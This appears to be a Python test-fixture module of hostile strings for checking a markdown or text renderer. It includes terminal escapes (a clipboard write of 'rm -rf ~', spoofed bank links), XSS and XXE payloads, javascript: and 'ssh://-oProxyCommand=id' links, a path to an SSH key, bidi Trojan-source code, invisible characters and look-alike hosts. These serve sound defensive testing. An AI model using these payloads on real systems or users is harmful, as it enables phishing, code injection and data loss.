"""Short texts that want to load something, to open something, or to look like something else.

FILE stands for the path of a file and WEB for the host and port of a server, neither of which may ever be touched.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Final

FILE: Final = "/@FILE@"
WEB: Final = "@WEB@"

ESCAPES: Final = (
    "\x1b[31mred\x1b[0m \x1b[1;4;5;7mloud\x1b[m \x1b[38;5;196mmore\x1b[0m \x1b[48;2;1;2;3mstill more\x1b[0m",
    "\x1b[2J\x1b[H\x1b[3J\x1b[10A\x1b[999D\x1b[Kover what was there",
    "\x1b]8;;https://evil.example/\x1b\\https://bank.example/\x1b]8;;\x1b\\",
    f"\x1b]8;id=1;file://{FILE}\x07a click\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIH4K\x07 and \x1b]52;p;cm0gLXJmIH4K\x1b\\ for the clipboard",
    "\x1b]0;a title\x07\x1b]2;another\x1b\\\x1b]1337;File=inline=1:AAAA\x07",
    '\x1bP$q"p\x1b\\\x1bP+q544e\x1b\\\x1b_Gf=100;AAAA\x1b\\\x1b^privacy\x1b\\',
    "\x9b31mC1\x9b0m \x9d8;;https://evil.example/\x9c \x90q\x9c \x85next",
    "\x07\x08\x08\x08back \x0b vertical \x0c form \x1a end \x7f deleted \x00 nul \x05 who",
    "a\rb\r\nc\x1c\x1d\x1e\x1f\x85\u2028\u2029d",
    "\x1b[?1049h\x1b[?25l\x1b[?1000h\x1bc\x1b#8\x1b(0lqqk\x1b(B",
    "\x1b[6n\x1b[c\x1b[5n\x1b]4;1;?\x07\x1b[21t",
)
_PLACES: Final = ("```\n{}\n```", "`{}`", "| {} | b |\n| --- | --- |\n| {} | {} |", "- **{}**", "${}$")


def escapes() -> Sequence[str]:
    """Escape sequences of terminals, each as it is and in one of the places where a text may hold it."""
    places = [_PLACES[n % len(_PLACES)] for n in range(len(ESCAPES))]
    return [*ESCAPES, *(place.replace("{}", payload) for place, payload in zip(places, ESCAPES, strict=True))]


HTML: Final = (
    f'<img src="file://{FILE}">', f"<img src={FILE} width=1>", f'<IMG SRC="http://{WEB}/a.png" onerror="alert(1)">',
    f'<img srcset="http://{WEB}/a.png 2x">', "<script>alert(document.cookie)</script>",
    f'<script src="http://{WEB}/a.js"></script>', f'<iframe src="file://{FILE}"></iframe>',
    f'<object data="file://{FILE}"></object>', f'<embed src="http://{WEB}/a.swf">',
    f'<video src="http://{WEB}/a.mp4" autoplay></video>', f'<audio src="file://{FILE}"></audio>',
    f'<link rel="stylesheet" href="http://{WEB}/a.css">', f'<base href="http://{WEB}/">',
    f'<meta http-equiv="refresh" content="0;url=http://{WEB}/">', f'<body background="file://{FILE}">text</body>',
    f'<table background="http://{WEB}/a.png"><tr><td background="{FILE}">x</td></tr></table>',
    f'<svg><image href="file://{FILE}"/></svg>', f'<svg onload="alert(1)"><use href="http://{WEB}/a.svg#b"/></svg>',
    f'<form action="http://{WEB}/"><input name="a"><button>Send</button></form>', "<a href='javascript:alert(1)'>x</a>",
    f'<a href="file://{FILE}">open</a>', '<p style="background:url(file:///@FILE@)">x</p>', "<!-- a comment",
    "<!--[if IE]><script>1</script><![endif]-->", "<![CDATA[ a ]]>", "<?php system('id'); ?>", "<!DOCTYPE html><html>",
    f'<!DOCTYPE a [<!ENTITY b SYSTEM "file://{FILE}">]><a>&b;</a>', "<math><mtext><script>1</script></mtext></math>",
    "<style>* { display: none }</style>", "<plaintext>", "<xmp>", "<textarea>", "<title>other</title>", "<noscript>",
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;font-size:9999px">x</div>',
    "<marquee>x</marquee>",
    "<b><i><u><b><i></b>", "<" * 60, "</" * 60, "<a " + 'b="c" ' * 200, "&lt;img src=x&gt;", "<qt>rich</qt>",
    f'<font face="url(http://{WEB}/a.ttf)">x</font>', "<h1>big</h1><hr><br><center>x", "<a name=x></a><a href=#x>y</a>",
)  # fmt: skip
IMAGES: Final = (
    f"![a](file://{FILE})", f"![a]({FILE})", f"![a](<file://{FILE}>)", f"![a](http://{WEB}/a.png)",
    f"![a](//{WEB}/a.png)", f"[![a](http://{WEB}/a.png)](http://{WEB}/)", f"![a][b]\n\n[b]: http://{WEB}/a.png",
    f"![a]\n\n[a]: file://{FILE}", "![a](data:image/png;base64,iVBORw0KGgo=)", r"![a](\\server\share\a.png)",
    "![a](//server/share/a.png)", "![a](file://server/share/a.png)", "![a](qrc:/qt-project.org/logos/pixmaps/qt.png)",
    "![a](:/qt-project.org/a.png)", "![a](formula:0011)", "![a](image://a/b)", "![a](../../../../etc/hostname)",
    f'![a](file://{FILE} "title")', f"![{'a' * 3000}](file://{FILE})", f"![a](file%3A%2F%2F{FILE})",
    f"# ![a](file://{FILE})", f"| ![a](file://{FILE}) |\n| --- |\n| ![b](http://{WEB}/b.png) |",
    f"$\\includegraphics{{{FILE}}}$", f"$$\\input{{{FILE}}}$$",
    f"$\\href{{http://{WEB}/}}{{x}} \\url{{file://{FILE}}}$",
)  # fmt: skip
SCHEMES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)", "%6aavascript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "vbscript:MsgBox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    f"file://{FILE}", f"FILE://{FILE}", f"file:{FILE}", FILE, "~/.ssh/id_rsa", "smb://server/share", r"\\server\share",
    "//server/share", "ftp://server/a", "sftp://server/a", "ldap://server/a", "telnet://server:23",
    "ssh://-oProxyCommand=id",
    "tel:+1900", "sms:1", "facetime:a", "ms-msdt:/id", "search-ms:query=a", "vscode://a", "steam://run/1",
    "about:blank",
    "chrome://settings", "view-source:http://a", "blob:http://a/b", "filesystem:http://a/b", "intent://a#Intent;end",
    "jar:http://a!/b", "mhtml:http://a", "res://a", "qrc:/a", "formula:00", "x:", ":", "http", "httpx://a",
    "https:javascript:1",
)  # fmt: skip


def links() -> Sequence[str]:
    """Links of every form to targets that are none."""
    forms = ("[x]({})", "<{}>", "[x](<{}>)", "[x][r]\n\n[r]: {}", '**[`x`]({})** and [$x$]({} "t")')
    return [forms[n % len(forms)].replace("{}", target) for n, target in enumerate(SCHEMES)]


CSS: Final = (
    f"<style>@import url(http://{WEB}/a.css);</style>", f"<style>@import 'file://{FILE}';</style>",
    f"<style>body{{background:url(http://{WEB}/a.png)}}</style>", f'<p style="content:url(file://{FILE})">x</p>',
    f"<style>@font-face{{font-family:a;src:url(http://{WEB}/a.ttf)}}</style>", f"@import url(http://{WEB}/a.css);",
    f"a{{behavior:url(file://{FILE})}}", f'<p style="width:expression(alert(1));-moz-binding:url(http://{WEB}/)">x',
    f'<div style="list-style-image:url(http://{WEB}/a.png)"><li>x</div>', f"[x](http://a \"style='url({FILE})'\")",
)  # fmt: skip
BIDI: Final = (
    "```c\nif (admin) { /* \u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n```",
    '```py\naccess = "user"\nif access != "none\u202e\u2066": # check\u2069\u2066\n```', "`a\u202eb`",
    "file\u202efdp.exe",
    "\u202e" * 500 + "x", "\u2066" * 500 + "x", "a\u202db\u202ac\u202bd\u202ee\u202c", "\u2067[x](https://a.b)\u2069",
    "[\u202egro.knab//:sptth](https://evil.example/)", "\u061c\u200e\u200fa", "- \u202e1\n- 2",
    "> \u202bשלום\u202c english",
    "| \u202ea | b |\n| --- | --- |\n| 1 | \u2067 |", "# \u202etitle", "${x\u202ey}$",
    "שלום $x^2$ مرحبا [a](https://b.c) `code`",
)  # fmt: skip
UNSEEN: Final = (
    "pass\u200bword \u200c\u200d\u2060\ufeff", "\ufeff# no heading?", "\u00ad" * 300, "\u3164\u115f\u1160\uffa0",
    "\U000e0041\U000e0042\U000e007f",
    "a" + "\u0301" * 500, "Z\u0351\u036b\u0343\u036a" * 40, "\u034f\u180e\u17b4\u2800", "a\ufe0f\ufe0e" * 50,
    "\ufffe\uffff\ufdd0\U0010ffff",
    "\ue000\uf8ff\U000f0000", "\u2028\u2029" * 20, "\u200b".join("javascript:alert(1)"),
    "[x](https://a\u200b.example/)",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30, "\u2064\u2061\u2062" * 30, "\ufff9a\ufffab\ufffb", "\ufffc",
    "\ud800", "a\udfffb \udc00\ud800", "`\ud83d`", "${\ud800}$", "```\n\udfff\n```", "[\ud800](https://a.b/\udc00)",
    "\0", "a\0b", "\0" * 300, "`\0`", "$\0$", "# \0", "```\0\n\0\n```",
)  # fmt: skip
HOSTS: Final = tuple(
    f"[https://{seen}/](https://{real}/) and <https://{real}/a>"
    for seen, real in (
        ("apple.com", "аррӏе.com"), ("paypal.com", "раураl.com"), ("google.com", "googlе.com"),
        ("bank.com", "bank.com@evil.org"),
        ("bank.com", "bank.com%2f@evil.org"), ("bank.com", "xn--80ak6aa92e.com"), ("a.b", "a。b"),
        ("bank.com", "bank.com⁄a.evil.org"),
        ("a.b", "a\u00adb.c"), ("a.b", "①②⑦.⓪.⓪.①"), ("127.0.0.1", "2130706433"), ("127.0.0.1", "0x7f.1"),
        ("a.b", "[::1]"),
        ("a.b", "ａ.ｂ"), ("straße.de", "strasse.de"), ("a.b", "a..b"), ("a.b", "-a-.b"), ("a.b", "a" * 300 + ".b"),
        ("a.b", "a:b@c:d@e"),
    )
)  # fmt: skip
